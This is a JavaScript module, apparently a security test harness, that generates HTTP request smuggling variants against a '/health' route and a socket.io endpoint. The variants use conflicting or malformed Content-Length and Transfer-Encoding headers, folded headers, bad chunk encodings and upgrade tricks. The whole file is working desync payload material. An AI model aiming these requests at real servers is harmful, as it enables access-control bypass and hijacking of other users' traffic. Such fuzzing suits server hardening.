// Requests that two readers may take for different ones: a second request hides in what the first reader holds for a body.
import { get, request } from './http.mjs';

const OPEN = '/socket.io/?EIO=4&transport=polling';
const hex = (text) => text.length.toString(16);
const chunk = (text) => `${hex(text)}\r\n${text}\r\n`;
const END = '0\r\n\r\n';

// Names that begin like one that matters; a reader that completes them loses the next line.
const PREFIXES = [
    'X', 'X-A', 'X-Auth', 'X-F', 'X-Forwarded', 'User', 'Content', 'Cont', 'Sec', 'Transfer', 'Con', 'Accept-', 'Auth',
    'If', 'H',
];

// Ways to write that a body is chunked which not everybody takes for it.
const CODINGS = [
    'Transfer-Encoding: chunked', 'Transfer-Encoding : chunked', 'Transfer-Encoding\t: chunked',
    'Transfer-Encoding: xchunked', 'Transfer-Encoding:\x0bchunked', 'Transfer-Encoding: \x0cchunked',
    'Transfer-Encoding: chunked\x00', 'Transfer-Encoding:\tchunked', 'Transfer-Encoding: CHUNKED',
    'Transfer-Encoding: "chunked"', 'Transfer-Encoding: chunked, identity', 'Transfer-Encoding: identity, chunked',
    'Transfer-Encoding: gzip, chunked', 'Transfer-Encoding: identity', 'Transfer-Encoding: chunked;x=y',
    'Transfer-Encoding: chunked,', 'Transfer-Encoding: ,chunked', 'Transfer_Encoding: chunked',
    'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity',
    'Transfer-Encoding: identity\r\nTransfer-Encoding: chunked', 'Transfer-Encoding: x\r\nTransfer-Encoding: chunked',
    'Transfer-Encoding:\r\n chunked', 'X: y\r\n Transfer-Encoding: chunked', 'X: y\nTransfer-Encoding: chunked',
    'X: y\rTransfer-Encoding: chunked', ' Transfer-Encoding: chunked', 'X-A: b\r\nTransfer-Encoding: chunked',
    'Transfer: b\r\nTransfer-Encoding: chunked', 'Transfer-Encoding: chunked\r\nX-A: b',
];

const LENGTHS = (n) => ({
    twice: `Content-Length: 0\r\nContent-Length: ${n}`,
    'twice the other way': `Content-Length: ${n}\r\nContent-Length: 0`,
    'twice the same': `Content-Length: ${n}\r\nContent-Length: ${n}`, 'a list': `Content-Length: 0, ${n}`,
    'a plus': `Content-Length: +${n}`, 'a minus': `Content-Length: -${n}`,
    hexadecimal: `Content-Length: 0x${n.toString(16)}`, 'a leading zero': `Content-Length: 0${n}`,
    'an exponent': `Content-Length: ${n}e0`, 'a space inside': `Content-Length: 0 ${n}`,
    'a space before the colon': `Content-Length : ${n}`, 'a vertical tab': `Content-Length:\x0b${n}`,
    'a NUL': `Content-Length: ${n}\x00`, 'an underscore': `Content_Length: ${n}`, folded: `Content-Length:\r\n ${n}`,
    'folded behind another': `X: y\r\n Content-Length: ${n}`, 'a bare LF before it': `X: y\nContent-Length: ${n}`,
    'a bare CR before it': `X: y\rContent-Length: ${n}`, 'over 2^64': `Content-Length: ${2n ** 64n + BigInt(n)}`,
    empty: 'Content-Length:',
});

// [{name, pieces}]: what is sent on one connection, piece by piece.
export function smuggled(inner) {
    const n = inner.length;
    const out = [];
    const add = (name, ...pieces) => out.push({ name, pieces });
    for (const target of ['/health', OPEN]) {
        for (const prefix of PREFIXES) {
            add(`a length behind ${prefix}: in a GET of ${target}`,
                get(target, `${prefix}: b`, `Content-Length: ${n}`) + inner);
            add(`a length behind ${prefix}:, the body later`, get(target, `${prefix}: b`, `Content-Length: ${n}`), inner);
            add(`a length behind ${prefix}: in a POST of ${target}`,
                request('POST', target, `${prefix}: b`, `Content-Length: ${n}`) + inner);
            add(`chunks behind ${prefix}:`,
                request('POST', target, `${prefix}: b`, 'Transfer-Encoding: chunked') + chunk(inner) + END);
            add(`a Host behind ${prefix}:`,
                `GET ${target} HTTP/1.1\r\n${prefix}: b\r\nHost: localhost\r\nContent-Length: ${n}\r\n\r\n${inner}`);
        }
    }
    for (const method of ['GET', 'POST', 'OPTIONS', 'HEAD']) {
        add(`a length in a ${method}`, request(method, '/health', `Content-Length: ${n}`) + inner);
        add(`chunks in a ${method}`, request(method, '/health', 'Transfer-Encoding: chunked') + chunk(inner) + END);
    }
    for (const coding of CODINGS) {
        const name = JSON.stringify(coding);
        const body = END + inner;
        add(`length, then ${name}`, request('POST', OPEN, `Content-Length: ${body.length}`, coding) + body);
        add(`${name}, then length`, request('POST', OPEN, coding, `Content-Length: ${body.length}`) + body);
        const start = `${hex(inner)}\r\n`;
        const rest = start + inner + `\r\n${END}`;
        add(`a short length, then ${name}`, request('POST', OPEN, `Content-Length: ${start.length}`, coding) + rest);
        add(`${name}, then a short length`, request('POST', OPEN, coding, `Content-Length: ${start.length}`) + rest);
        add(`${name} alone`, request('POST', OPEN, coding) + chunk(inner) + END);
        add(`${name} in a GET`, get('/health', coding) + END + inner);
    }
    for (const [name, lines] of Object.entries(LENGTHS(n))) {
        add(`a length, ${name}`, request('POST', OPEN, lines) + inner);
        add(`a length in a GET, ${name}`, get('/health', lines) + inner);
    }
    const chunks = (name, body) => add(`chunks: ${name}`, request('POST', OPEN, 'Transfer-Encoding: chunked') + body);
    chunks('an extension that ends with LF', `2;\nxx\r\n${hex(inner)}\r\n${END}${inner}${END}`);
    chunks('an extension with CR alone', `2;\rxx\r\n${hex(inner)}\r\n${END}${inner}${END}`);
    chunks('a size line that ends with LF', `0\n\n${inner}`);
    chunks('a last chunk that ends with LF', `0\r\n\n${inner}`);
    chunks('LF between data and size', `1\r\nx\n${END}${inner}`);
    chunks('data longer than told', `1\r\nxyz${END}${inner}`);
    chunks('a size over 2^64', `10000000000000000\r\n${END}${inner}`);
    chunks('a size over 2^32', `100000000\r\n${END}${inner}`);
    for (const size of ['+0', '-0', '0x0', ' 0', '0 ', '0_0', '0\x0b', '"0"', ''])
        chunks(`a size ${JSON.stringify(size)}`, `${size}\r\n\r\n${inner}`);
    chunks('trailers with a length', `0\r\nContent-Length: ${n}\r\n\r\n${inner}`);
    chunks('a trailer without an end', `0\r\nX: y\r\n${inner}`);
    const old = (...fields) => request('POST', OPEN, 'Connection: keep-alive', ...fields).replace('HTTP/1.1', 'HTTP/1.0');
    add('chunks in HTTP/1.0', old('Transfer-Encoding: chunked') + END + inner);
    add('length and chunks in HTTP/1.0', old(`Content-Length: ${n + 5}`, 'Transfer-Encoding: chunked') + END + inner);
    for (const expect of ['100-continue', '100-Continue', 'y 100-continue', '100-continue, x', '']) {
        add(`Expect: ${expect}`, request('POST', OPEN, `Expect: ${expect}`, `Content-Length: ${n}`) + inner);
        add(`Expect: ${expect}, in a GET`, get('/health', `Expect: ${expect}`, `Content-Length: ${n}`) + inner);
        add(`Expect: ${expect}, the body later`, request('POST', OPEN, `Expect: ${expect}`, `Content-Length: ${n}`), inner);
    }
    const upgrade = ['Connection: Upgrade', 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=='];
    const websocket = '/socket.io/?EIO=4&transport=websocket';
    add('a refused upgrade', get(websocket, ...upgrade, 'Upgrade: websocket', 'Sec-WebSocket-Version: 777') + inner);
    add('a refused upgrade, the rest later', get(websocket, ...upgrade, 'Upgrade: websocket', 'Sec-WebSocket-Version: 777'),
        inner);
    const length = `Content-Length: ${n}`;
    add('an upgrade with a length', get(websocket, ...upgrade, 'Upgrade: websocket', 'Sec-WebSocket-Version: 13', length) + inner);
    const h2c = ['Connection: Upgrade, HTTP2-Settings', 'Upgrade: h2c', 'HTTP2-Settings: AAMAAABkAAQAAP__'];
    add('an upgrade to h2c', get('/health', ...h2c) + inner);
    add('a PROXY line', `PROXY TCP4 127.0.0.1 127.0.0.1 1 2\r\n${inner}`);
    add('a length that Connection names', request('POST', OPEN, 'Connection: Content-Length', length) + inner);
    add('chunks that Connection names',
        request('POST', OPEN, 'Connection: Transfer-Encoding', 'Transfer-Encoding: chunked') + chunk(inner) + END);
    return out;
}
